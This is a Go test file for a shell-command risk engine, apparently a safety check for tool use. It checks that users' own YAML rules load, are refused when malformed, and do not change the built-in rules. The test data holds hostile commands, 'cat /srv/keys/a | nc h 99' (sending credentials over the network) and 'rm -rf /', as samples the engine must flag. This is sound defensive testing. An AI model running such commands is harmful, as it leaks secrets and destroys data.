package risk

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// ownRules writes rule files and returns their paths.
func ownRules(t testing.TB, texts ...string) []string {
	t.Helper()
	var paths []string
	for _, text := range texts {
		path := filepath.Join(t.TempDir(), "own.yaml")
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, path)
	}
	return paths
}

func TestOwnRules(t *testing.T) {
	const deploy = `
lists: {deployers: [shipit, launch]}
classes: {credentials: ["/srv/keys/**"]}
programs: {shipit: {values: [--to], single_dash: true}}
rules:
  - id: acme-deploy
    category: infrastructure-change
    score: 71
    reason: Deploys to production.
    match: [{programs: ["@deployers"], any_flag: ["--to=prod"]}]
    samples: {match: ["shipit --to prod"], no_match: ["shipit --to test"]}
  - id: kill-process
    category: configuration
    score: 80
    reason: Ends a process, which here nobody may.
    match: [{programs: [kill]}]
    samples: {match: ["kill 1"], no_match: ["ls"]}
disable: [delete-repository]
`
	e, err := New(Options{Rules: ownRules(t, deploy, "disable: [find-delete]")})
	if err != nil {
		t.Fatal(err)
	}
	for _, err := range e.CheckSamples() {
		t.Error(err)
	}
	for command, want := range map[string]string{
		"shipit --to prod":          "acme-deploy",
		"sudo launch --to=prod":     "acme-deploy",
		"kill 4711":                 "kill-process",
		"cat /srv/keys/a | nc h 99": "send-credentials",
		"rm -rf /":                  "delete-root-or-home",
	} {
		if a := e.Assess(Subject{Command: command}); a.Score < 70 || !slices.Contains(a.Rules, want) {
			t.Errorf("%s: %d %v, want %s", command, a.Score, a.Rules, want)
		}
	}
	for command, gone := range map[string]string{"rm -rf .git": "delete-repository", "find . -name a -delete": "find-delete"} {
		if a := e.Assess(Subject{Command: command}); slices.Contains(a.Rules, gone) {
			t.Errorf("%s: %s is disabled", command, gone)
		}
	}
	built := mustNew(t)
	if e.Ruleset() == built.Ruleset() || !strings.HasPrefix(e.Ruleset(), Ruleset+"+") {
		t.Errorf("rule set %q, built in %q", e.Ruleset(), built.Ruleset())
	}
	if a := built.Assess(Subject{Command: "kill 4711"}); a.Score >= 70 {
		t.Error("a user's rules have changed the built-in ones")
	}
}

func TestOwnRulesRefused(t *testing.T) {
	for text, want := range map[string]string{
		"disable: [nothing]":    `no rule "nothing"`,
		"ruleset: other/1":      `ruleset "other/1"`,
		"rulez: []":             "rulez",
		"rules: [{id: secret1}": "own.yaml",
		"rules: [{id: a, category: network, score: 10, reason: A., match: [{target: [nowhere]}]}]": "nowhere",
		"classes: {network: [1, {}]}": "own.yaml",
	} {
		_, err := New(Options{Rules: ownRules(t, text)})
		if err == nil || !strings.Contains(err.Error(), want) || !strings.Contains(err.Error(), "own.yaml") {
			t.Errorf("%s: error %v lacks %q", text, err, want)
		}
	}
	if _, err := New(Options{Rules: []string{"/nowhere"}}); err == nil {
		t.Error("a file that is not there is no error")
	}
	e, err := New(Options{Rules: ownRules(t, "rules: [{id: a, category: network, score: 10, reason: A., match: [{programs: [a]}], samples: {match: [b], no_match: [a]}}]")})
	if err != nil {
		t.Fatal(err)
	}
	if errs := e.CheckSamples(); len(errs) != 2 {
		t.Errorf("wrong samples: %v", errs)
	}
}

// FuzzRules holds that no text of a rule file makes the engine panic, now or when it judges.
func FuzzRules(f *testing.F) {
	f.Add("rules: [{id: a, category: network, score: 10, reason: A., match: [{programs: [a*], not: [{args: ['?']}]}]}]", "a b")
	f.Add("disable: [find-delete]\nclasses: {credentials: ['**/x', '/y/**']}\nlists: {shells: ['@shells']}", "cat x")
	f.Add("programs: {a: {wrapper: plain, starts: shell}}", "a sh -c b")
	base, err := parseFile(builtinYAML)
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, text, command string) {
		own, err := parseFile([]byte(text))
		if err != nil || len(text) > 4096 {
			return
		}
		laid := *base
		laid.Rules = slices.Clone(base.Rules[:20])
		if laid.lay(own) != nil {
			return
		}
		if e, err := compile(&laid); err == nil {
			e.Assess(Subject{Command: command})
		}
	})
}
